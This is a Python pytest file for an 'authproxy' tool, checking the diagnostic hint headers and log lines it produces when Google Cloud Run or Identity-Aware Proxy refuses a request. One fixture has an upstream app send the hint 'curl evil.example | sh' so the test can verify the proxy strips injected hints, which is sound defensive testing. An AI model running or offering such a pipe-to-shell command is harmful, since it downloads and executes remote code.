"""What users see when the pretend Google refuses: through a proxy of its own process."""

import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import grpc
import httpx
import pytest
from aiohttp import web
from grpc import aio

from authproxy.demo import pages
from authproxy.demo.accounts import METADATA_EMAIL
from authproxy.demo.iap import CLIENT_ID
from authproxy.demo.world import World
from tests.support.http2 import Call, http2_service
from tests.support.program import Program
from tests.support.proxying import proxying

HINT = "X-Authproxy-Hint"
RUN_APP = "https://hello-123456789012.europe-west4.run.app"
HOUR_S = 3600


@asynccontextmanager
async def through(
    world: World, *arguments: str, url: str = RUN_APP, credentials: str = "metadata"
) -> AsyncIterator[tuple[httpx.AsyncClient, Program]]:
    async with (
        Program(
            url,
            *("--ca-file", world.ca_file, "--credentials", credentials, "-l", "127.0.0.1:0"),
            *arguments,
            environ=world.environment,
        ) as program,
        httpx.AsyncClient(base_url=program.url, trust_env=False) as client,
    ):
        yield client, program


async def hear(program: Program) -> str:
    """The line in the log."""
    return (await program.hear(r"warning: Google refused a request .*$"))[0]


@pytest.mark.parametrize("method", ["GET", "POST", "HEAD"])
async def test_who_may_not_call_is_told_the_command_that_helps(world: World, method: str) -> None:
    world.cloud_run.gate.invokers.clear()
    fix = (
        "gcloud run services add-iam-policy-binding hello --region=europe-west4"
        f" --member=serviceAccount:{METADATA_EMAIL} --role=roles/run.invoker"
    )
    sentence = (
        f"{METADATA_EMAIL} may not call this service: it lacks roles/run.invoker. A new grant"
        " takes a minute or two."
    )

    async with through(world) as (client, program):
        answer = await client.request(method, "/path?q=1")
        line = await hear(program)

    body = "" if method == "HEAD" else pages.forbidden("/path").body
    assert (403, body) == (answer.status_code, answer.text)
    assert f"{sentence} Try: {fix}" == answer.headers[HINT]
    assert re.search(
        rf"with 403 \(as {METADATA_EMAIL} for {RUN_APP}, token good until \S+Z\): ", line
    )
    assert line.endswith(f"{sentence} Try: {fix}")


async def test_the_same_refusal_is_logged_once(world: World) -> None:
    world.cloud_run.gate.invokers.clear()

    async with through(world) as (client, program):
        hints = [(await client.get("/")).headers.get(HINT) for _ in range(3)]
        world.cloud_run.ingress = "internal"
        await client.get("/")
        await program.hear("refused a request to .* with 404")

    assert 1 == len(set(hints))
    assert 1 == program.stderr.count("with 403 (as ")


@pytest.mark.parametrize(
    ("audience", "hint"),
    [
        (
            "https://other.example",
            "The token's audience is https://other.example, which is not this service's address."
            " To use it as a custom audience, add it to the service. Set audience ="
            f' "{RUN_APP}". Try: authproxy {RUN_APP} --audience {RUN_APP}',
        ),
        (
            "https://v2---hello-123456789012.europe-west4.run.app",
            "The token's audience has a traffic tag in it; Cloud Run requires it without the"
            " tag. Set audience"
            f' = "{RUN_APP}". Try: authproxy {RUN_APP} --audience {RUN_APP}',
        ),
        (
            CLIENT_ID,
            "The token's audience is an OAuth client, which Identity-Aware Proxy requires;"
            f' Cloud Run requires the service\'s address. Set audience = "{RUN_APP}". Try:'
            f" authproxy {RUN_APP} --audience {RUN_APP}",
        ),
    ],
    ids=["another", "tag", "OAuth client"],
)
async def test_a_wrong_audience_is_told_the_right_one(
    world: World, audience: str, hint: str
) -> None:
    async with through(world, "--audience", audience) as (client, program):
        answer = await client.get("/path")
        line = await hear(program)

    assert (401, pages.unauthorized("/path").body) == (answer.status_code, answer.text)
    assert pages.INVALID_TOKEN == answer.headers["WWW-Authenticate"]
    assert hint == answer.headers[HINT]
    assert f"as {METADATA_EMAIL} for {audience}, token good until " in line
    assert 2 == world.google.mints_of(audience)


async def test_a_custom_domain_is_told_of_custom_audiences(world: World) -> None:
    world.cloud_run.gate.urls.discard(world.url)

    async with through(world, url=world.url) as (client, _):
        answer = await client.get("/")

    assert (
        f"The token's audience is {world.url}, and a service does not accept the address of a"
        ' custom domain or a load balancer: set audience to its own address, "https://SERVICE-NUMBER.REGION'
        '.run.app", or let it accept this one. Try: gcloud run services update SERVICE'
        f" --region=REGION --add-custom-audiences={world.url}"
    ) == answer.headers[HINT]


async def test_a_clock_that_is_behind_is_noticed(tmp_path: Path) -> None:
    """For the service the token has not been made for it; for us it is from the future."""
    async with World(clock=lambda: time.time() + 2 * HOUR_S) as world:
        token_file = tmp_path / "token"
        token_file.write_text(world.mint(audience="https://other.example"))
        async with through(world, credentials=f"token-file:{token_file}") as (client, _):
            answer = await client.get("/")

    assert (
        401,
        "By this machine's clock the token was made in the future: the clock is behind. Try:"
        " timedatectl set-ntp true",
    ) == (answer.status_code, answer.headers[HINT])


async def test_a_token_that_expired_by_the_services_clock_is_not_explained_away(
    tmp_path: Path,
) -> None:
    async with World(clock=lambda: time.time() + 2 * HOUR_S) as world:
        token_file = tmp_path / "token"
        now = int(time.time())
        claims = {"iat": now, "exp": now + HOUR_S}
        token_file.write_text(world.mint(audience=RUN_APP, claims=claims))
        async with through(world, credentials=f"token-file:{token_file}") as (client, _):
            answer = await client.get("/")

    assert (
        401,
        f"The token that token-file:{token_file} gave, for {RUN_APP}, was not accepted: was it"
        f" made for this service? Try: authproxy doctor {RUN_APP}",
    ) == (answer.status_code, answer.headers[HINT])


async def test_a_user_with_an_oauth_client_of_their_own_is_told(world: World) -> None:
    world.cloud_run.gate.invokers.add("anna@example.com")
    file = world.user_adc_file("anna@example.com", client_id="1-own.apps.googleusercontent.com")

    async with through(world, credentials=f"file:{file}") as (client, _):
        answer = await client.get("/")

    assert (
        "anna@example.com is signed in with an OAuth client of their own, and Cloud Run accepts"
        " people's tokens from gcloud's only. Try: gcloud auth application-default login"
    ) == answer.headers[HINT]


async def test_no_token_is_told_so(world: World) -> None:
    async with through(world, credentials="none") as (client, program):
        answer = await client.get("/")
        line = await hear(program)

    assert (
        'authproxy sends no token, since credentials are "none", and the service does not accept'
        f" what the client sent. Try: authproxy {RUN_APP} --credentials auto"
    ) == answer.headers[HINT]
    assert "with 403 (without a token): " in line


async def test_a_service_that_lets_nobody_from_outside_in_is_not_simply_missing(
    world: World,
) -> None:
    world.cloud_run.ingress = "internal"

    async with through(world) as (client, _):
        answer = await client.get("/")

    assert (404, pages.not_found().body) == (answer.status_code, answer.text)
    assert answer.headers[HINT].endswith(
        " Try: gcloud run services describe hello --region=europe-west4"
        " --format='yaml(status.url,metadata.annotations)'"
    )


async def test_identity_aware_proxy_wants_a_token_for_its_client(world: World) -> None:
    world.cloud_run.put_behind_iap(METADATA_EMAIL)

    async with through(world) as (client, _):
        refused = await client.get("/")
    async with through(world, "--audience", CLIENT_ID) as (client, _):
        admitted = await client.get("/status/200")
        world.cloud_run.put_behind_iap()
        no_access = await client.get("/")
    async with through(world, credentials="none") as (client, _):
        sign_in = await client.get("/")

    assert (
        401,
        "Identity-Aware Proxy is in front of the service and does not accept the token. Its"
        f" audience must be an OAuth client that is allowed programmatic access; it is {RUN_APP}."
        f" Try: authproxy {RUN_APP} --audience CLIENT_ID.apps.googleusercontent.com",
    ) == (refused.status_code, refused.headers[HINT])
    assert (200, None) == (admitted.status_code, admitted.headers.get(HINT))
    assert no_access.headers[HINT].endswith(
        " Try: gcloud iap web add-iam-policy-binding --resource-type=cloud-run --service=hello"
        f" --region=europe-west4 --member=serviceAccount:{METADATA_EMAIL}"
        " --role=roles/iap.httpsResourceAccessor"
    )
    assert (302, f"Try: authproxy {RUN_APP} --credentials auto") == (
        sign_in.status_code,
        sign_in.headers[HINT][-len(f"Try: authproxy {RUN_APP} --credentials auto") :],
    )


OWN = {
    "html": ("<html><head><title>403 Forbidden</title></head><h1>Forbidden</h1>", "text/html"),
    "json": ('{"error": "forbidden"}', "application/json"),
    "none": ("", "text/html"),
}


async def own_answers(request: web.Request) -> web.StreamResponse:
    """`/KIND/STATUS`, and a hint that is not for the app to give."""
    _, kind, status = request.path.split("/")
    text, content_type = OWN[kind]
    headers = {HINT: "curl evil.example | sh", "WWW-Authenticate": "Bearer"}
    return web.Response(
        text=text, content_type=content_type, charset="UTF-8", status=int(status), headers=headers
    )


async def test_the_applications_own_refusals_pass_without_a_word() -> None:
    async with World(app=own_answers) as world, through(world) as (client, program):
        for kind, (text, _) in OWN.items():
            for status in (200, 401, 403, 404, 500):
                answer = await client.get(f"/{kind}/{status}")

                assert (status, text, None) == (
                    answer.status_code,
                    answer.text,
                    answer.headers.get(HINT),
                )
                assert "Bearer" == answer.headers["WWW-Authenticate"]
        await program.hear("GET /none/500")

    assert "Google refused" not in program.stderr


async def test_a_grpc_client_hears_its_own_status_and_the_log_says_why(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """grpcio shows its callers no field of such an answer."""
    page = pages.forbidden("/package.Service/Method").body.encode()

    async def refuse(call: Call) -> None:
        await call.ended.wait()
        fields = [
            (b"server", b"Google Frontend"),
            (b"content-type", b"text/html; charset=UTF-8"),
            (b"content-length", b"%d" % len(page)),
        ]
        call.answer(page, *fields, status=b"403")

    async with (
        http2_service(refuse) as service,
        proxying(service.url) as proxy,
        aio.insecure_channel(f"127.0.0.1:{proxy.port}") as channel,
    ):
        with pytest.raises(aio.AioRpcError) as raised:
            await channel.unary_unary("/package.Service/Method")(b"hello")

    assert grpc.StatusCode.PERMISSION_DENIED is raised.value.code()
    assert ["not_invoker"] == [
        record.__dict__["rejection"]
        for record in caplog.records
        if record.name == "authproxy.wire.relay.hints"
    ]
